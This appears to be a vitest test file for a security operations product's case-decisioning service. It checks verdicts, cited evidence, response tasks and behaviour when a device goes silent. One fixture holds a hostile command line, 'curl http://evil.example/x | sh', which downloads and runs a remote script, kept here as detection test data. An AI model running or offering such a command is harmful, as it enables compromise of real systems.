import { randomUUID } from 'node:crypto';
import { investigationStatusIds } from '@parapet/contract/rules/cases.ts';
import { dayMs, minuteMs } from '@parapet/contract/rules/duration.ts';
import { sql } from 'kysely';
import { beforeAll, describe, expect, test } from 'vitest';
import { useTestApp } from '../../../test/app.ts';
import { type SeedAlert, type SeedCase, type SeededCase, type SeedRule, seedCase, seedRule } from '../../../test/seed.ts';
import { movableClock } from '../../core/clock.ts';
import { scoped } from '../../core/db/scope.ts';
import { silentLog } from '../../core/log.ts';
import { createIntelligenceService } from '../intelligence/intelligence.service.ts';
import { createDecisioningService } from './decisioning.service.ts';
import { modelName } from './decisioning.weights.ts';

const t = useTestApp();
const now = Date.now();
const clock = movableClock(now);
let decisioning: ReturnType<typeof createDecisioningService>;
let severe: SeedRule;
let odd: SeedRule;
/** A case at about even odds. */
let unclear: Partial<SeedCase> & { doc: object };
let prose: string | undefined;

beforeAll(async () => {
  const intelligence = createIntelligenceService({ db: t.db, clock });
  await intelligence.importOwn(
    'Test list',
    'csv',
    'value,reputation\n203.0.113.66,Malicious\nevil.example,Malicious\n203.0.113.67,Suspicious',
  );
  decisioning = createDecisioningService({
    db: t.db,
    clock,
    lookUp: intelligence.lookUp,
    writeProse: async () => prose,
    log: silentLog,
  });
  severe = await seedRule(t.db, { title: 'Ransom “notes”', criticality: 5 }, { tactics: ['credential-access'] });
  odd = await seedRule(t.db, { title: 'Odd program', criticality: 4 }, { tactics: ['execution'] });
  unclear = {
    alerts: [{ at: now - 30 * minuteMs, rule: odd, device: 'WS-1', user: 'CORP\\ana' }],
    artifacts: [],
    doc: { host: { name: 'WS-1' }, process: { command_line: 'tool.exe -x', executable: 'C:\\Windows\\Temp\\tool.exe' } },
  };
});

const document = (more: object = {}) => ({
  host: { name: 'WS-1' },
  process: { command_line: 'lock.exe -path D:', executable: 'C:\\ProgramData\\lock.exe' },
  source: { ip: '203.0.113.66' },
  ...more,
});
async function malicious(
  organisationId: number,
  more: Partial<SeedCase> & { doc?: object; alert?: Partial<SeedAlert> } = {},
): Promise<SeededCase> {
  const { doc = document(), alert, ...rest } = more;
  const seeded = await seedCase(t.db, {
    organisationId,
    at: now - 30 * minuteMs,
    alerts: [{ at: now - 30 * minuteMs, rule: severe, device: 'WS-1', user: 'CORP\\ana', ...alert }],
    artifacts: [{ kind: 'sourceIp', value: '203.0.113.66' }],
    ...rest,
  });
  await addEvents(seeded, doc);
  return seeded;
}
const addEvents = (seeded: SeededCase, doc: object) =>
  scoped(t.db, 'system', async (tx) => {
    for (const { id, at } of seeded.alerts)
      await sql`insert into alert_events (organisation_id, alert_id, alert_at, event_id, event_at, text, why, document)
        values (${seeded.organisationId}, ${id}, ${new Date(at)}, ${randomUUID()}, ${new Date(at)}, '', '{"condition":"","items":[]}', ${JSON.stringify(doc)})`.execute(
        tx,
      );
  });
const record = (id: number) =>
  scoped(t.db, 'system', (tx) => tx.selectFrom('cases').selectAll().where('id', '=', id).executeTakeFirstOrThrow());
const verified = async (seeded: SeededCase, isInternal = true) => {
  const found = await record(seeded.id);
  const scope = { organisationIds: [seeded.organisationId] };
  return scoped(t.db, scope, (tx) => decisioning.verified(tx, scope, found, isInternal));
};
const rowsOf = (table: 'case_tasks' | 'case_narratives' | 'case_history', id: number) =>
  scoped(t.db, 'system', (tx) => tx.selectFrom(table).selectAll().where('case_id', '=', id).execute());

describe('a verdict', () => {
  test('stores its evidence, tasks and a narrative, once', async () => {
    const client = await t.organisation();
    const seeded = await malicious(client);
    expect(await decisioning.run(client)).toBe(1);
    expect(await record(seeded.id)).toMatchObject({
      verdict: 'Malicious',
      needs_decision: false,
      version: 1,
      decided_at: new Date(now),
      summary: expect.stringContaining('“WS-1”'),
    });
    const decision = await verified(seeded);
    expect(decision).toMatchObject({ verdict: 'Malicious', uncited: 0 });
    expect(decision!.evidence.find(({ factor }) => factor === 'reputation')).toMatchObject({
      alertID: seeded.alerts[0]!.id,
      field: 'source.ip',
      value: '203.0.113.66',
    });
    expect(await rowsOf('case_tasks', seeded.id)).toMatchObject([
      { task_number: 1, action: 'block', target: '203.0.113.66', is_sent: false },
      { task_number: 2, action: 'block', target: 'C:\\ProgramData\\lock.exe', device_name: 'WS-1' },
      { task_number: 3, action: 'disable', target: 'CORP\\ana' },
    ]);
    expect(await rowsOf('case_narratives', seeded.id)).toMatchObject([
      { is_generated: true, author_name: 'Decisioning', started_at: new Date(now) },
    ]);
    expect(await rowsOf('case_history', seeded.id)).toMatchObject([
      { kind: 'decision', text: expect.stringContaining('Malicious') },
    ]);

    await scoped(t.db, 'system', (tx) =>
      tx.updateTable('cases').set({ needs_decision: true }).where('id', '=', seeded.id).execute(),
    );
    const before = await record(seeded.id);
    expect(await decisioning.run()).toBe(1);
    expect(await record(seeded.id)).toEqual({ ...before, needs_decision: false });
    for (const [table, count] of [
      ['case_tasks', 3],
      ['case_narratives', 1],
      ['case_history', 1],
    ] as const)
      expect(await rowsOf(table, seeded.id)).toHaveLength(count);
    expect(await decisioning.run()).toBe(0);
  });

  test('drops a sentence when its event changes or its alert moves', async () => {
    const client = await t.organisation();
    const seeded = await malicious(client);
    await decisioning.run(client);
    const whole = (await verified(seeded))!;
    await scoped(t.db, 'system', (tx) =>
      sql`update alert_events set document = jsonb_set(document, '{source,ip}', '"198.51.100.1"') where alert_id = ${seeded.alerts[0]!.id}`.execute(
        tx,
      ),
    ).catch(async () => {
      // The application may not change copies of events: as their owner, then.
      const { runAs } = await import('../../../test/database.ts');
      await runAs(
        t.database.ownerUrl,
        `update alert_events set document = jsonb_set(document, '{source,ip}', '"198.51.100.1"') where alert_id = ${seeded.alerts[0]!.id}`,
      );
    });
    const left = (await verified(seeded))!;
    expect(left.evidence).toEqual(whole.evidence.filter(({ value }) => value !== '203.0.113.66'));
    expect(left.uncited).toBe(2);
    expect(left.explanation).not.toContain('203.0.113.66');
    await scoped(t.db, 'system', (tx) => tx.deleteFrom('case_alerts').where('case_id', '=', seeded.id).execute());
    expect(await verified(seeded)).toMatchObject({ verdict: 'Malicious', evidence: [], uncited: whole.evidence.length });
  });

  test('hides review outcomes from clients', async () => {
    const client = await t.organisation();
    const seeded = await malicious(client, { set: { is_decision_correct: false, decision_notes: 'between us' } });
    expect(await verified(seeded)).toBeNull();
    await decisioning.run(client);
    expect(await verified(seeded, true)).toMatchObject({ isCorrect: false, notes: 'between us' });
    expect(await verified(seeded, false)).toMatchObject({ isCorrect: null, notes: '' });
  });

  test('finds dotted fields and addresses in command lines', async () => {
    const client = await t.organisation();
    const seeded = await malicious(client, { doc: { 'process.command_line': 'curl http://evil.example/x | sh' }, artifacts: [] });
    await decisioning.run(client);
    const decision = (await verified(seeded))!;
    expect(decision.evidence.find(({ factor }) => factor === 'reputation')).toMatchObject({
      field: 'process.command_line',
      value: 'curl http://evil.example/x | sh',
      text: expect.stringContaining('“evil.example”'),
    });
    expect(decision.uncited).toBe(0);
  });

  test('lacks information while a device is silent, unless it is plainly malicious', async () => {
    const client = await t.organisation();
    const at = now - 26 * 60 * minuteMs;
    const plain = await malicious(client, { at, alert: { at } });
    const seeded = await malicious(client, { ...unclear, at, alerts: [{ at, rule: odd, device: 'WS-1', user: 'CORP\\ana' }] });
    const setLast = (at: number) =>
      scoped(t.db, 'system', (tx) =>
        sql`with known as (update devices set last_event_at = ${new Date(at)} where organisation_id = ${client} returning id)
          insert into devices (organisation_id, name, device_type, last_event_at)
          select ${client}, 'WS-1', 'server', ${new Date(at)} where not exists (select from known)`.execute(tx),
      );
    const verdicts = async () => [(await record(plain.id)).verdict, (await record(seeded.id)).verdict];
    await decisioning.run(client);
    const [, between] = await verdicts();
    expect(['Suspicious', 'Likely Benign']).toContain(between);
    await setLast(now - 25 * 60 * minuteMs);
    await decisioning.noteSilence();
    await decisioning.run(client);
    expect(await verdicts()).toEqual(['Malicious', 'Insufficient Information']);
    expect(await record(seeded.id)).toMatchObject({ confidence: null });
    expect(await verified(seeded)).toMatchObject({ confidenceScore: null, uncited: 0 });
    expect((await verified(seeded))!.evidence).toContainEqual(expect.objectContaining({ factor: 'silence', alertID: null }));
    expect(await rowsOf('case_tasks', seeded.id)).toEqual([]);
    await decisioning.noteSilence();
    expect(await decisioning.run(client)).toBe(0);
    await setLast(now);
    await decisioning.noteSilence();
    expect(await decisioning.run(client)).toBe(2);
    expect(await verdicts()).toEqual(['Malicious', between]);
    clock.moveTo(now + 25 * 60 * minuteMs);
    await decisioning.noteSilence();
    await decisioning.run(client);
    clock.moveTo(now);
    expect(await verdicts()).toEqual(['Malicious', 'Insufficient Information']);
  });

  test('takes an alert for a sign of life before the device’s last event is written', async () => {
    const client = await t.organisation();
    const seeded = await malicious(client, unclear);
    await scoped(t.db, 'system', (tx) =>
      sql`insert into devices (organisation_id, name, device_type, last_event_at)
        values (${client}, 'WS-1', 'server', ${new Date(now - 70 * 60 * minuteMs)})`.execute(tx),
    );
    await decisioning.run(client);
    expect((await verified(seeded))!.evidence.map(({ factor }) => factor)).not.toContain('silence');
  });

  test('learns from reviews of its own organisation only', async () => {
    const [client, other] = [await t.organisation(), await t.organisation()];
    await scoped(t.db, 'system', (tx) =>
      tx.insertInto('rule_outcomes').values({ organisation_id: client, rule_id: severe.id, malicious: 0, benign: 30 }).execute(),
    );
    const [mine, theirs] = [await malicious(client), await malicious(other)];
    await decisioning.run();
    expect((await record(mine.id)).probability!).toBeLessThan((await record(theirs.id)).probability!);
    expect((await verified(mine))!.evidence.map(({ factor }) => factor)).toContain('outcome');
    expect((await verified(theirs))!.evidence.map(({ factor }) => factor)).not.toContain('outcome');
  });

  test('counts earlier days of the rule on the device, unless one was malicious', async () => {
    const client = await t.organisation();
    for (const days of [9, 5, 3]) await malicious(client, { at: now - days * dayMs, alert: { at: now - days * dayMs } });
    const seeded = await malicious(client);
    const factors = async () => (await verified(seeded))!.evidence.map(({ factor }) => factor);
    const mark = (set: object, isSeeded: boolean) =>
      scoped(t.db, 'system', (tx) =>
        tx
          .updateTable('cases')
          .set({ needs_decision: true, ...set })
          .where('organisation_id', '=', client)
          .where('id', isSeeded ? '=' : '<', seeded.id)
          .execute(),
      );
    await mark({ needs_decision: false }, false);
    await decisioning.run(client);
    expect((await verified(seeded))!.evidence).toContainEqual(
      expect.objectContaining({
        factor: 'history',
        field: 'host.name',
        value: 'WS-1',
        text: expect.stringContaining('on 3 of the 30 days'),
      }),
    );
    // Judged malicious by the model and not reviewed.
    await mark({}, false);
    await decisioning.run(client);
    await mark({}, true);
    await decisioning.run(client);
    expect(await factors()).not.toContain('history');
    await mark({ needs_decision: false, investigation_status: investigationStatusIds.benign }, false);
    await mark({}, true);
    await decisioning.run(client);
    expect(await factors()).toContain('history');
    await mark({ needs_decision: false, status: 'malicious' }, false);
    await mark({}, true);
    await decisioning.run(client);
    expect(await factors()).not.toContain('history');
  });
});

describe('the SOC’s own actions', () => {
  const again = async (seeded: SeededCase) => {
    await scoped(t.db, 'system', (tx) =>
      tx.updateTable('cases').set({ needs_decision: true }).where('id', '=', seeded.id).execute(),
    );
    await decisioning.run(seeded.organisationId);
    const { verdict, confidence, probability, evidence } = await record(seeded.id);
    return { verdict, confidence, probability, evidence };
  };
  const isolate = (seeded: SeededCase, at: number) =>
    scoped(t.db, 'system', async (tx) => {
      const { id } = await tx
        .insertInto('responses')
        .values({
          organisation_id: seeded.organisationId,
          case_id: seeded.id,
          action: 'isolate',
          target: 'WS-1',
          device_name: 'WS-1',
          state: 'acknowledged',
          expires_at: new Date(now + 60 * minuteMs),
        })
        .returning('id')
        .executeTakeFirstOrThrow();
      await tx
        .insertInto('response_steps')
        .values({ organisation_id: seeded.organisationId, response_id: id, at: new Date(at), state: 'acknowledged' })
        .execute();
    });

  test('change no verdict: isolation, status, note and the review of the case', async () => {
    const client = await t.organisation();
    const seeded = await malicious(client, unclear);
    await decisioning.run(client);
    const before = await again(seeded);
    await isolate(seeded, now - 20 * minuteMs);
    expect(await again(seeded)).toEqual(before);
    await scoped(t.db, 'system', async (tx) => {
      await tx
        .updateTable('cases')
        .set({ status: 'malicious', investigation_status: investigationStatusIds.malicious, decision_notes: 'It is.' })
        .where('id', '=', seeded.id)
        .execute();
      await tx
        .insertInto('case_reviews')
        .values({ organisation_id: client, case_id: seeded.id, counted_outcome: 'malicious', counted_rules: [severe.id, odd.id] })
        .execute();
      await tx
        .insertInto('rule_outcomes')
        .values([severe, odd].map(({ id }) => ({ organisation_id: client, rule_id: id, malicious: 1 })))
        .execute();
    });
    expect(await again(seeded)).toEqual(before);
  });

  test('give no evidence on their target, but do elsewhere', async () => {
    const client = await t.organisation();
    const blocked = await seedRule(t.db, { title: 'Firewall Changed', criticality: 4 }, { techniques: ['T1562.004'] });
    const alert = { at: now - 19 * minuteMs, rule: blocked, user: 'root' };
    const seeded = await malicious(client, {
      ...unclear,
      alerts: [
        { at: now - 30 * minuteMs, rule: odd, device: 'WS-1', user: 'ana' },
        { ...alert, device: 'WS-1' },
        { ...alert, device: 'WS-2' },
      ],
    });
    await decisioning.run(client);
    const cites = async () => (await again(seeded)).evidence.map(({ alertID }) => alertID);
    expect(await cites()).toContain(seeded.alerts[1]!.id);
    await isolate(seeded, now - 20 * minuteMs);
    expect(await cites()).not.toContain(seeded.alerts[1]!.id);
    expect(await cites()).toContain(seeded.alerts[2]!.id);
  });
});

test('keeps sentences of older verdicts, and drops newer ones that do not speak of their value', async () => {
  const client = await t.organisation();
  const seeded = await malicious(client);
  const sentence = {
    text: 'Several countries.',
    weight: 5,
    factor: 'severity',
    alertID: seeded.alerts[0]!.id,
    field: 'source.ip',
    value: '203.0.113.66',
  };
  const store = (model: string) =>
    scoped(t.db, 'system', (tx) =>
      tx
        .updateTable('cases')
        .set({ verdict: 'Malicious', confidence: 90, model, decided_at: new Date(now), evidence: JSON.stringify([sentence]) })
        .where('id', '=', seeded.id)
        .execute(),
    );
  await store('additive-log-odds 1');
  expect(await verified(seeded)).toMatchObject({ evidence: [sentence], uncited: 0, startWeight: -20 });
  await store(modelName);
  expect(await verified(seeded)).toMatchObject({ evidence: [], uncited: 1 });
});

test('replaces the narrative by prose and keeps the verdict', async () => {
  const client = await t.organisation();
  prose = 'In calm words.';
  const seeded = await malicious(client);
  await decisioning.run(client);
  prose = undefined;
  expect(await rowsOf('case_narratives', seeded.id)).toMatchObject([{ text: 'In calm words.', is_generated: true }]);
  expect(await record(seeded.id)).toMatchObject({ verdict: 'Malicious' });
});

test('evaluates each case once with two processes', async () => {
  const client = await t.organisation();
  const seeded = await Promise.all(Array.from({ length: 5 }, () => malicious(client)));
  await Promise.all([decisioning.run(client), decisioning.run(client), decisioning.run(client)]);
  await decisioning.run(client);
  for (const { id } of seeded) {
    expect(await rowsOf('case_narratives', id)).toHaveLength(1);
    expect(await record(id)).toMatchObject({ needs_decision: false, verdict: 'Malicious' });
  }
});
